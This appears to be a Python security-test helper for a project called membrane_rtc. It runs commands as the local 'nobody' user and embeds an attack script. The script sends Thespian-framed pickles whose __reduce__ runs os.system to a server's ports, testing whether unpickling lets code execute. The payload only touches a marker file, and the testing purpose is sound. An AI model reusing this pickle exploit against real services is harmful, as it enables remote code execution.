"""Act as another local user (``nobody``) against a server run by this one: needs root."""

from __future__ import annotations

import asyncio
import os
import shutil
import sys
import tempfile
from pathlib import Path
from typing import Iterator

from .tools import require

#: ``nobody``'s user and group ids on Debian.
NOBODY = 65534


def require_root() -> str:
    """``setpriv``'s path, to run commands as ``nobody``; skip (fail under CI) unless root."""
    setpriv = shutil.which("setpriv")
    require(os.geteuid() == 0 and setpriv, "needs root (and setpriv, util-linux) to act as "
                                           "another local user")
    assert setpriv is not None
    return setpriv


def nobodys_directory() -> Iterator[Path]:
    """A directory of ``nobody``'s own under /tmp, world-readable and writable (pytest's
    tmp_path is root's alone); removed afterwards."""
    path = Path(tempfile.mkdtemp(prefix="membrane-rtc-nobody-", dir="/tmp"))
    try:
        path.chmod(0o777)
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


async def run_as_nobody(*command: str, home: Path, timeout: float = 60,
                        **environment: str) -> tuple[int, str, str]:
    """Run ``command`` as ``nobody`` in ``home`` with an environment of its own (its own state
    directory, nothing of this user's): (exit status, stdout, stderr)."""
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
           "TMPDIR": str(home), "MEMBRANE_RTC_STATE_DIR": str(home / "state"),
           "LANG": "C.UTF-8", **environment}
    process = await asyncio.create_subprocess_exec(
        require_root(), f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *command,
        cwd=home, env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(process.communicate(), timeout)
    return process.returncode, out.decode(), err.decode()  # type: ignore[return-value]


async def require_nobody_runs_python(home: Path) -> None:
    """This checkout's Python and membrane_rtc must be readable by ``nobody``."""
    status, _, err = await run_as_nobody(sys.executable, "-c", "import membrane_rtc", home=home)
    require(status == 0, f"nobody cannot run this checkout's Python (make it world-readable): "
                         f"{err.strip().splitlines()[-1:]}")


#: What the attacker runs: ``python - MARKER_DIR HOST:PORT:SECONDS ...``. To each port it sends
#: Thespian's framing (``<length>>`` then the data) around a pickle whose loading runs
#: ``touch MARKER_DIR/<port>-<variant>`` - once bare, once behind 32 guessed tag bytes - and
#: reads the answer (Thespian's acknowledgement, a pickle it does not load) or the close.
#: Prints {"<port>-<variant>": answer} as JSON.
ATTACK = r'''
import json, os, pickle, socket, sys

marker_dir = sys.argv[1]


class Runs:
    def __init__(self, name):
        self.name = name

    def __reduce__(self):
        return (os.system, (f"touch {marker_dir}/{self.name}",))


answers = {}
for target in sys.argv[2:]:
    host, port, seconds = target.rsplit(":", 2)
    for variant in ("bare", "guessed-tag"):
        name = f"{port}-{variant}"
        data = pickle.dumps((Runs(name), Runs(name + "-message")))
        if variant == "guessed-tag":
            data = os.urandom(32) + data
        answer = b""
        try:
            with socket.create_connection((host, int(port)), timeout=float(seconds)) as sock:
                sock.sendall(b"%d>" % len(data) + data)
                while True:  # until a whole answer came, or the server closed
                    chunk = sock.recv(4096)
                    if not chunk:
                        break
                    answer += chunk
                    size, mark, rest = answer.partition(b">")
                    if mark and size.isdigit() and len(rest) >= int(size):
                        break
        except socket.timeout:
            answer += b"<no answer>"
        except OSError as exc:
            answer += f"<{type(exc).__name__}>".encode()
        answers[name] = answer.decode("latin-1")
print(json.dumps(answers))
'''
